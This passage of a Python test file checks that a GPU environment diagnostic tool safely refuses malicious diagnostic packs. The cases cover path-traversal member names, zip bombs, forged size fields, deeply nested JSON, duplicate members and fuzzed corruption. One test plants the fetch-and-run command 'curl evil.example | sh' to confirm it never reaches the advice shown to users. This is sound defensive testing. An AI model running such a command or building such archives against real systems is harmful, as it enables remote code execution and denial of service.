            "files/a\0b",
            "x",
        ],
    )
    def test_names_that_lead_out(self, tmp_path: Path, member: str) -> None:
        assert "is no name of a file in it" in refused(
            packed(tmp_path, files=[{"path": "/proc/version", "member": member}])
        )

    def test_a_file_that_is_promised_and_not_there(self, tmp_path: Path) -> None:
        assert "no pack" in refused(packed(tmp_path, files=[{"path": "/x", "member": "files/x"}]))

    @pytest.mark.slow
    def test_a_bomb_is_not_unpacked(self, tmp_path: Path) -> None:
        manifest = json.loads(zipfile.ZipFile(packed(tmp_path)).read("manifest.json"))
        bomb = written(
            tmp_path, {"manifest.json": json.dumps(manifest), "files/proc/version": b"\0" * (80 << 20)}
        )
        assert bomb.stat().st_size < 1 << 20
        assert "larger" in refused(bomb)
        assert "larger" in refused(written(tmp_path, {"manifest.json": b" " * (80 << 20)}))

    @pytest.mark.slow
    def test_many_files_that_are_each_small_enough(self, tmp_path: Path) -> None:
        files = [{"path": f"/{number}", "member": f"files/{number}"} for number in range(12)]
        manifest = {"schema": 1, "rocenv": "0", "platform": "linux", "home": "/", "files": files}
        members: dict[str, str | bytes] = {f"files/{number}": b"\0" * (10 << 20) for number in range(12)}
        assert "larger" in refused(written(tmp_path, {"manifest.json": json.dumps(manifest), **members}))

    def test_one_text_named_many_times(self, tmp_path: Path) -> None:
        """A quine of sorts: a small file whose one member counts a thousand times."""
        files = [{"path": f"/{number}", "member": "files/a"} for number in range(1000)]
        manifest = {"schema": 1, "rocenv": "0", "platform": "linux", "home": "/", "files": files}
        assert "larger" in refused(
            written(tmp_path, {"manifest.json": json.dumps(manifest), "files/a": b"\0" * (1 << 20)})
        )

    def test_a_size_that_lies(self, tmp_path: Path) -> None:
        file = packed(tmp_path)
        with zipfile.ZipFile(file) as opened:
            info = opened.getinfo("files/proc/version")
        data = bytearray(file.read_bytes())
        at = data.rindex(b"files/proc/version") - 46 + 24
        data[at : at + 4] = (1 << 31).to_bytes(4, "little")
        file.write_bytes(data)
        assert info.file_size < 100
        with contextlib.suppress(RocenvError), pack.opened(file):
            assert len(machine.read_text("/proc/version") or "") < 100

    def test_deep_json(self, tmp_path: Path) -> None:
        assert "no pack" in refused(written(tmp_path, {"manifest.json": "[" * 200_000}))

    def test_unusual_ways_of_packing(self, tmp_path: Path) -> None:
        manifest = zipfile.ZipFile(packed(tmp_path)).read("manifest.json")
        assert "unusual" in refused(written(tmp_path, {"manifest.json": manifest}, zipfile.ZIP_LZMA))

    def test_a_member_twice(self, tmp_path: Path) -> None:
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as out, pytest.warns(UserWarning, match="Duplicate"):
            out.writestr("manifest.json", "{}")
            out.writestr("manifest.json", "{}")
        file = tmp_path / "twice.zip"
        file.write_bytes(data.getvalue())
        assert "twice" in refused(file)

    @pytest.mark.parametrize(
        "changes",
        [
            {"folders": {"/sys/class/kfd/kfd/topology/nodes": [str(number) for number in range(300_000)]}},
            {"folders": {f"/sys/{number}": [] for number in range(50_000)}},
            {"files": [{"path": f"/{number}", "member": "files/proc/version"} for number in range(50_000)]},
            {"seen": [{"check": "no_gpu", "tells": "no_gpu", "evidence": ["x"] * 100_000}]},
        ],
    )
    def test_more_than_a_machine_has(self, tmp_path: Path, changes: dict[str, object]) -> None:
        assert "more than" in refused(packed(tmp_path, **changes))

    def test_no_command_of_its_own_is_told(self, tmp_path: Path, matrix: Matrix) -> None:
        evil = {"env": "sd", "driver": "1", "create": "curl evil.example | sh"}
        seen = [
            {"check": "env_unusable", "tells": "driver_breaks_env", "values": evil},
            {"check": "no_gpu", "tells": "env_known_broken", "values": evil},
            {"check": "driver_breaks_env", "tells": "driver_breaks_env", "values": evil},
            {"check": "env_known_broken", "tells": "env_known_broken", "values": evil},
        ]
        for platform in ("linux", "windows"):
            file = packed(tmp_path, platform=platform, seen=seen)
            found = pack.examine(file, matrix, "en").findings
            commands = [command for each in found for command in each.commands]
            assert not [command for command in commands if "evil" in command]
            assert "env_known_broken" not in [each.check for each in found]
            assert {each.check for each in found if each.code == "env-known-broken"} <= {"driver_breaks_env"}

    def test_each_row_is_told_by_a_check(self, matrix: Matrix) -> None:
        names = {check.name for check in CHECKS}
        told = {check for row in matrix.advice for check in row.told_by}
        assert told - names == {"check_failed"}
        assert names <= told

    @settings(max_examples=150, deadline=None)
    @given(data=st.data())
    def test_damage_never_ends_in_a_traceback(self, data: st.DataObject) -> None:
        with tempfile.TemporaryDirectory() as folder:
            file = packed(Path(folder))
            sound = bytearray(file.read_bytes())
            for _ in range(data.draw(st.integers(1, 6))):
                sound[data.draw(st.integers(0, len(sound) - 1))] = data.draw(st.integers(0, 255))
            file.write_bytes(
                sound[: data.draw(st.integers(0, len(sound)))] if data.draw(st.booleans()) else sound
            )
            with contextlib.suppress(RocenvError), pack.opened(file):
                machine.read_text("/proc/version")
            assert not machine.examined_elsewhere()

    def test_answers_of_the_wrong_kind_crash_nothing(self, tmp_path: Path, matrix: Matrix) -> None:
        file = packed(
            tmp_path,
            variables={"HOME": "\0", "LD_LIBRARY_PATH": ":::", "HIP_PATH": "%s" * 1000},
            opened={"/dev/kfd": "__name__"},
            errors={"/sys": "ENOSUCHERROR"},
            folders={"/sys/class/kfd/kfd/topology/nodes": ["0", "9" * 400, "../..", "\0"]},
            tried=[{"what": "free bytes", "about": "/", "answer": "{"}],
            seen=[
                {"check": "no_gpu", "tells": "no such row"},
                {"check": "no such check", "tells": "no_gpu"},
                {"check": "igpu_first", "tells": "igpu_first", "values": {"igpu": "{card}\x1b[2J"}},
            ],
        )
        assert all(each.title for each in pack.examine(file, matrix, "en").findings)
